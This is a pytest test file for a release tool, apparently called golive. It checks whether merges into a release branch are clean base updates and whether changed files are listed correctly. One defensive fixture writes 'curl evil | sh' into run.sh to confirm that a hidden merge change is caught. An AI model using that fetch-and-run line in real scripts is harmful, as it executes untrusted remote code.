"""What golive makes of a pull request's commits and files, read from the GitHub stand-in through the real SDK.

A new kind of merge that may or may not be a clean update gets a row in `MERGES`.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest

from contract.github_reading import Address, Reading, reading
from contract.github_world import POEM, SHOP
from golive.core.errors import Conflict, Gone, TooMuch
from golive.core.model import ChangedFile, Revision

pytestmark = pytest.mark.sockets
BRANCH = "release/1"
MORE = "it is more than the base merged in"


@dataclass
class Case:
    """A release branch with one change of its own, and a base that goes on. `base`: moves it; `ours`: moves the branch."""

    reading: Reading
    before: str = ""

    def base(self, **options: object) -> str:
        """One commit on the base."""
        return self._commit("main", **options)

    def ours(self, **options: object) -> str:
        """One commit on the release branch."""
        return self._commit(BRANCH, **options)

    def _commit(self, branch: str, files: object = None, modes: object = None) -> str:
        return self.reading.github.commit(SHOP, branch, files or {}, by="bo", modes=modes)  # type: ignore[arg-type]

    def update(self) -> str:
        """GitHub's own "Update branch"."""
        return self.reading.github.merge_base_into(SHOP, BRANCH, by="bo", base="main")

    def by_hand(self, *others: str, **options: object) -> str:
        """A merge made on somebody's machine."""
        return self.reading.github.merge_by_hand(SHOP, BRANCH, others or ("main",), by="bo", **options)  # type: ignore[arg-type]

    def why_not(self, after: str) -> str:
        """What golive says of the branch's new head."""
        return self.reading.repo.clean_update(self.before, after, "main")


@pytest.fixture(scope="module")
def address() -> Iterator[Address]:
    made = Address()
    yield made
    made.served.stop()


@pytest.fixture
def case(address: Address) -> Iterator[Case]:
    with reading(address) as opened:
        files = {"app.py": "a\nb\nc\nd\ne\n", "run.sh": "echo\n", "old.py": "old\n", "docs/a.md": "a\n"}
        made = Case(opened)
        made.base(files=files)
        made.before = made.ours(files={"app.py": "A\nb\nc\nd\ne\n", "ours.py": "ours\n"})
        yield made


def _plain(c: Case) -> str:
    c.base(files={"other.py": "other\n", "poem.txt": POEM + "more\n"})
    return c.update()


def _deleted_there(c: Case) -> str:
    c.base(files={"old.py": None, "docs/a.md": None})
    return c.update()


def _renamed_there(c: Case) -> str:
    c.base(files={"old.py": None, "new/old.py": "old\n"})
    return c.update()


def _mode_there(c: Case) -> str:
    c.base(modes={"run.sh": "100755"})
    return c.update()


def _chain_of_two(c: Case) -> str:
    _plain(c)
    c.base(files={"other.py": "another\n"})
    return c.update()


def _release_deleted(c: Case) -> str:
    c.before = c.ours(files={"old.py": None})
    return _plain(c)


def _an_older_base(c: Case) -> str:
    older = c.base(files={"other.py": "other\n"})
    c.base(files={"other.py": "newest\n"})
    return c.by_hand(older)


def _the_other_way_round(c: Case) -> str:
    """The base is the first parent here."""
    github, head = c.reading.github, c.reading.github.world.repo(SHOP).git.refs[f"heads/{BRANCH}"]
    tip = c.base(files={"turned.py": "turned\n"})
    github.create_branch(SHOP, "turned", start=tip, by="bo")
    return github.force_push(SHOP, BRANCH, github.merge_by_hand(SHOP, "turned", [head], by="bo"), by="bo")


def _a_chain_the_other_way_round(c: Case) -> str:
    _plain(c)
    return _the_other_way_round(c)


def _both_sides(c: Case) -> str:
    c.base(files={"app.py": "a\nb\nc\nd\nE\n"})
    return c.update()


def _both_sides_alike(c: Case) -> str:
    c.base(files={"ours.py": "ours\n"})
    return c.update()


def _moved_there_changed_here(c: Case) -> str:
    c.base(files={"app.py": None, "moved.py": "a\nb\nc\nd\ne\n"})
    return c.by_hand(files={"app.py": None, "moved.py": "A\nb\nc\nd\ne\n"})


def _evil_third_path(c: Case) -> str:
    c.base(files={"other.py": "other\n"})
    return c.by_hand(files={"run.sh": "curl evil | sh\n"})


def _evil_new_path(c: Case) -> str:
    c.base(files={"other.py": "other\n"})
    return c.by_hand(files={"evil.py": "evil\n"})


def _evil_mode(c: Case) -> str:
    c.base(files={"other.py": "other\n"})
    return c.by_hand(modes={"run.sh": "100755"})


def _evil_link(c: Case) -> str:
    c.base(files={"other.py": "other\n"})
    return c.by_hand(modes={"run.sh": "120000"})


def _not_brought_in(c: Case) -> str:
    c.base(files={"other.py": "other\n"})
    return c.by_hand(files={"other.py": None})


def _ours_taken_back(c: Case) -> str:
    c.base(files={"other.py": "other\n"})
    return c.by_hand(files={"app.py": "a\nb\nc\nd\ne\n"})


def _evil_link_of_a_chain(c: Case) -> str:
    _evil_third_path(c)
    c.base(files={"other.py": "another\n"})
    return c.update()


def _octopus(c: Case) -> str:
    one = c.base(files={"other.py": "other\n"})
    c.base(files={"third.py": "third\n"})
    return c.by_hand(one, "main")


def _another_branch(c: Case) -> str:
    c.reading.github.commit(SHOP, "side", {"side.py": "side\n"}, by="bo")
    return c.by_hand("side")


def _the_branch_itself_ahead(c: Case) -> str:
    c.base(files={"other.py": "other\n"})
    c.reading.github.commit(SHOP, "ahead", {"side.py": "side\n"}, by="bo", start="main")
    return c.by_hand("ahead")


def _a_commit_more(c: Case) -> str:
    return c.ours(files={"ours.py": "more\n"})


def _a_commit_and_an_update(c: Case) -> str:
    _a_commit_more(c)
    return _plain(c)


def _an_update_and_a_commit(c: Case) -> str:
    _plain(c)
    return _a_commit_more(c)


def _rewritten(c: Case) -> str:
    return c.reading.github.force_push(SHOP, BRANCH, {"app.py": "A\nb\nc\nd\ne\n", "ours.py": "ours\n"}, by="bo")


def _eleven_in_a_row(c: Case) -> str:
    head = ""
    for n in range(11):
        c.base(files={"other.py": f"{n}\n"})
        head = c.update()
    return head


MERGES: list[tuple[Callable[[Case], str], str]] = [
    (_plain, ""),
    (_deleted_there, ""),
    (_renamed_there, ""),
    (_mode_there, ""),
    (_chain_of_two, ""),
    (_release_deleted, ""),
    (_an_older_base, ""),
    (_the_other_way_round, ""),
    (_a_chain_the_other_way_round, ""),
    (_both_sides, "app.py was changed on both sides"),
    (_both_sides_alike, "ours.py was changed on both sides"),
    (_moved_there_changed_here, "app.py was changed on both sides"),
    (_not_brought_in, "other.py is not as on the base"),
    (_ours_taken_back, "app.py is not as it was"),
    (_octopus, MORE),
    (_another_branch, MORE),
    (_the_branch_itself_ahead, MORE),
    (_a_commit_more, MORE),
    (_a_commit_and_an_update, MORE),
    (_an_update_and_a_commit, MORE),
    (_rewritten, MORE),
    (_eleven_in_a_row, "it is more than 10 updates in a row"),
]
HIDDEN: list[tuple[Callable[[Case], str], str]] = [
    (_evil_third_path, "run.sh is not as on the base"),
    (_evil_new_path, "evil.py is not as on the base"),
    (_evil_mode, "run.sh is not as on the base"),
    (_evil_link, "run.sh is not as on the base"),
    (_evil_link_of_a_chain, "run.sh is not as on the base"),
]


@pytest.mark.parametrize(("merge", "why"), MERGES, ids=[merge.__name__.strip("_") for merge, _ in MERGES])
def test_an_update_is_clean_only_where_each_path_is_of_one_side(
    case: Case, merge: Callable[[Case], str], why: str
) -> None:
    assert case.why_not(merge(case)) == why


@pytest.mark.parametrize(("merge", "why"), HIDDEN, ids=[merge.__name__.strip("_") for merge, _ in HIDDEN])
def test_trap_26_what_a_merge_hides_is_found_in_its_tree(case: Case, merge: Callable[[Case], str], why: str) -> None:
    assert case.why_not(merge(case)) == why


def test_a_tree_that_is_cut_off_is_no_clean_update(case: Case) -> None:
    case.reading.github.most_entries = 3
    assert case.why_not(_plain(case)) == "too many files to compare"


def test_a_head_is_an_update_of_itself_and_no_base_is_needed(case: Case) -> None:
    assert case.reading.repo.clean_update(case.before, case.before, "gone") == ""


def test_a_base_branch_that_is_gone_is_said_and_never_passed(case: Case) -> None:
    after = _plain(case)
    with pytest.raises(Gone):
        case.reading.repo.clean_update(case.before, after, "gone")


def test_what_was_compared_once_is_not_read_again(case: Case) -> None:
    after = _chain_of_two(case)
    assert case.why_not(after) == ""
    trees = case.reading.asked("git/get-tree")
    assert case.why_not(after) == ""
    assert case.reading.asked("git/get-tree") == trees > 0
    case.base(files={"third.py": "third\n"})
    assert case.why_not(after) == "", "the base may go on; what was brought in is still of it"
    assert case.reading.asked("git/get-tree") == trees


# ------------------------------------------------------------------ what differs


def test_paths_between_two_commits_are_told_from_their_trees(case: Case) -> None:
    between = case.reading.repo.changed_between
    start = case.before
    moved = case.ours(files={"old.py": None, "new.py": "old\n"}, modes={"run.sh": "100755"})
    assert between(start, moved) == ("new.py", "old.py", "run.sh")
    assert between(moved, start) == ("new.py", "old.py", "run.sh")
    rewritten = _rewritten(case)
    assert between(start, rewritten) == ()
    assert between(start, start) == ()
    assert between(start, "0" * 40) is None, "a commit that is gone cannot be compared"


def test_where_a_tree_is_cut_off_a_comparison_tells_if_it_can(case: Case) -> None:
    case.reading.github.most_entries = 3
    between = case.reading.repo.changed_between
    after = case.ours(files={"old.py": None, "new.py": "old\n"})
    assert between(case.before, after) == ("new.py", "old.py")
    assert between(after, case.before) is None, "a comparison backwards shows nothing"
    aside = case.base(files={"other.py": "other\n"})
    assert between(case.before, aside) is None, "a comparison of what parted shows one side alone"
    many = case.ours(files={f"many/{n}.txt": "x\n" for n in range(300)})
    assert between(after, many) is None, "GitHub shows at most 300 files of a comparison"


# ------------------------------------------------------------------ changed files


def a_pull(case: Case) -> int:
    return case.reading.github.open_pull(SHOP, head=BRANCH, title="Release", by="bo")


def revision(case: Case, number: int) -> Revision:
    return case.reading.repo.pull(number).revision


def test_changed_files_are_counted_in_lines(case: Case) -> None:
    files = case.reading.repo.changed_files(a_pull(case))
    assert files == (ChangedFile("app.py", "", 1, 1), ChangedFile("ours.py", "", 1, 0))


def test_trap_27_a_renamed_file_has_both_its_names(case: Case) -> None:
    case.ours(files={"docs/a.md": None, "a.md": "a\n"})
    files = case.reading.repo.changed_files(a_pull(case))
    assert ChangedFile("a.md", "docs/a.md", 0, 0) in files


def test_changed_files_are_read_to_the_last_page(case: Case) -> None:
    case.ours(files={f"many/{n}.txt": "x\n" for n in range(250)})
    assert len(case.reading.repo.changed_files(a_pull(case))) == 252


def test_trap_28_more_files_than_github_shows_are_said_and_never_fewer(case: Case) -> None:
    case.ours(files={f"many/{n}.txt": "x\n" for n in range(2997)})
    number = a_pull(case)
    assert len(case.reading.repo.changed_files(number)) == 2999
    case.ours(files={"many/last.txt": "x\n"})
    with pytest.raises(TooMuch, match="at most 3,000 changed files"):
        case.reading.repo.changed_files(number)


def test_files_of_a_revision_are_read_once_until_its_base_or_its_head_moves(case: Case) -> None:
    repo, number = case.reading.repo, a_pull(case)
    now = revision(case, number)
    first = repo.changed_files(number, now)
    read = case.reading.asked("pulls/list-files")
    assert repo.changed_files(number, now) == first
    assert case.reading.asked("pulls/list-files") == read == 1
    case.base(files={"other.py": "other\n"})
    repo.changed_files(number, now)
    assert case.reading.asked("pulls/list-files") == 2, "another base may be another difference"
    case.ours(files={"more.py": "more\n"})
    assert len(repo.changed_files(number, revision(case, number))) == 3


def test_files_of_a_head_that_is_gone_are_not_taken_for_its_own(case: Case) -> None:
    number = a_pull(case)
    old = revision(case, number)
    case.ours(files={"more.py": "more\n"})
    with pytest.raises(Conflict, match="was pushed to"):
        case.reading.repo.changed_files(number, old)
